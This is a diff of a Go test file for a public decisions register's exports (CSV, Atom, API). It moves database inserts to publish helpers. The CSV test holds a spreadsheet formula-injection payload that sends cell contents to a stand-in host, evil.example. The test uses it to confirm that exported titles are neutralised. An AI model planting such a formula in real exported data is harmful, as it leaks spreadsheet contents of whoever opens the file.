@@ -14,7 +14,9 @@ import (
 	"time"
 
 	"github.com/PuerkitoBio/goquery"
+	"github.com/jackc/pgx/v5"
 
+	"github.com/decision-register/decisions/internal/dbtest"
 	"github.com/decision-register/decisions/internal/testsite"
 )
 
@@ -93,12 +95,9 @@ type atomDoc struct {
 func TestExportsEqualThePage(t *testing.T) {
 	t.Parallel()
 	ts := newTestServer(t)
-	_, err := ts.pool.Exec(context.Background(), `INSERT INTO decisions (series, number, reference, slug, title, status, date_signed)
+	dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, status, date_signed)
 		SELECT 'MD', n, 'MD ' || n, 'md-' || n, 'Synthetic funding decision ' || n, 'published', DATE '2024-01-01' + n
 		FROM generate_series(1, 25) n`)
-	if err != nil {
-		t.Fatal(err)
-	}
 	for _, query := range []string{"", "q=county+lines", "q=synthetic&sort=newest", "series=MD", "q=funding&series=pcd",
 		"funder=Home+Office", "fy=2022-23", "min=1m&sort=amount", "from=2024-01-10&to=2024-01-20"} {
 		sep := "?"
@@ -222,10 +221,8 @@ func TestAtomFeedIsValid(t *testing.T) {
 		}
 	}
 	// An entry is published on its date signed, when that is recorded.
-	if _, err := ts.pool.Exec(t.Context(), `INSERT INTO decisions (series, number, reference, slug, title, status, date_signed)
-		VALUES ('MD', 78, 'MD 78', 'md-78', 'Signed on a known day', 'published', '2024-05-07')`); err != nil {
-		t.Fatal(err)
-	}
+	dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, status, date_signed)
+		VALUES ('MD', 78, 'MD 78', 'md-78', 'Signed on a known day', 'published', '2024-05-07')`)
 	var md atomDoc
 	if err := xml.Unmarshal([]byte(ts.get(t, "/decisions.atom?series=MD").body), &md); err != nil || len(md.Entries) != 1 ||
 		md.Entries[0].Published != "2024-05-07T00:00:00Z" {
@@ -247,11 +244,8 @@ func TestCSVRoundTrips(t *testing.T) {
 	ts := newTestServer(t)
 	title := "Knives, \"quotes\" and\r\nnew lines, =SUM(A1) ünïcödé"
 	formula := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
-	_, err := ts.pool.Exec(context.Background(), `INSERT INTO decisions (series, number, reference, slug, title, summary, status)
+	dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, summary, status)
 		VALUES ('MD', 77, 'MD 77', 'md-77', $1, $2, 'published')`, title, "Line one\nline two, \"quoted\"")
-	if err != nil {
-		t.Fatal(err)
-	}
 	rows := csvRows(t, ts, "/decisions.csv?series=MD")
 	if !slices.Equal(rows[0], []string{"reference", "url", "title", "summary", "date_signed", "decision_maker", "funder",
 		"series", "status", "total_pence", "total", "financial_years", "synthetic"}) {
@@ -264,18 +258,18 @@ func TestCSVRoundTrips(t *testing.T) {
 		t.Errorf("summary = %q", rows[1][3])
 	}
 	// A title a spreadsheet would run as a formula is written as text; the API keeps it exact.
-	for _, start := range []string{"=", "+", "-", "@", "\t", "  =", "＝"} {
-		if _, err := ts.pool.Exec(context.Background(), `UPDATE decisions SET title = $1 WHERE slug = 'md-77'`,
-			start+formula[1:]); err != nil {
-			t.Fatal(err)
-		}
-		rows := csvRows(t, ts, "/decisions.csv?series=MD")
+	for i, start := range []string{"=", "+", "-", "@", "\t", "  =", "＝"} {
+		// A signed title cannot change: each is a decision of its own series.
+		series := "F" + string(rune('A'+i))
+		dbtest.PublishSQL(t, ts.pool, `INSERT INTO decisions (series, number, reference, slug, title, status)
+			VALUES ($1, 77, $1 || ' 77', lower($1) || '-77', $2, 'published')`, series, start+formula[1:])
+		rows := csvRows(t, ts, "/decisions.csv?series="+series)
 		if len(rows) != 2 || rows[1][2] != "'"+start+formula[1:] {
 			t.Errorf("CSV title for %q = %q, want it after an apostrophe", start+formula[1:], rows[1][2])
 		}
 	}
 	var api struct{ Title string }
-	if err := json.Unmarshal([]byte(ts.get(t, "/api/v1/decisions/md-77").body), &api); err != nil || api.Title != "＝"+formula[1:] {
+	if err := json.Unmarshal([]byte(ts.get(t, "/api/v1/decisions/fg-77").body), &api); err != nil || api.Title != "＝"+formula[1:] {
 		t.Errorf("API title = %q (%v), want the title exactly as held", api.Title, err)
 	}
 	// Money and years as the site writes them.
@@ -296,6 +290,7 @@ func TestExportsNeverLeak(t *testing.T) {
 	ts := newTestServer(t)
 	const secret = "PLANTEDSECRET"
 	ctx := context.Background()
+	var stmts []string
 	for _, sql := range []string{
 		`INSERT INTO decisions (series, number, reference, slug, title, summary, status) VALUES
 			('MD', 501, 'MD 501', 'md-501', 'Public decision about parks', 'Parks.', 'published'),
@@ -307,10 +302,16 @@ func TestExportsNeverLeak(t *testing.T) {
 		`INSERT INTO decisions (series, number, reference, slug, title, status, publish_at) VALUES
 			('MD', 503, 'MD 503', 'md-503', '` + secret + ` deferred', 'approved', now() + interval '1 day')`,
 	} {
-		if _, err := ts.pool.Exec(ctx, sql); err != nil {
-			t.Fatalf("%s: %v", sql, err)
-		}
+		stmts = append(stmts, sql)
 	}
+	dbtest.Publish(t, ts.pool, func(tx pgx.Tx) error {
+		for _, sql := range stmts {
+			if _, err := tx.Exec(ctx, sql); err != nil {
+				return fmt.Errorf("%s: %w", sql, err)
+			}
+		}
+		return nil
+	})
 	var paths []string
 	for _, q := range []string{"", "q=" + secret, "q=" + strings.ToLower(secret), "q=parks", "q=confidential", "q=deferred",
 		"series=MD", "q=md+502", "q=md+503+parks", "sort=amount"} {
@@ -350,8 +351,8 @@ func TestExportsNeverLeak(t *testing.T) {
 func TestOpenAPIMatchesResponses(t *testing.T) {
 	t.Parallel()
 	ts := newTestServer(t)
-	withDocument := ts.site.Published(t, 99200, "A decision with a document")
-	ts.site.Attach(t, withDocument, "Figures", []byte("area,amount\nHackney,1200\nCamden,900\n"))
+	withDocument, _ := ts.site.Published(t, 99200, "A decision with a document",
+		testsite.Doc{Name: "Figures", Body: []byte("area,amount\nHackney,1200\nCamden,900\n")})
 	var doc map[string]any
 	r := getJSON(t, ts, "/api/v1/openapi.json", &doc)
 	if r.status != http.StatusOK || doc["openapi"] != "3.1.0" {
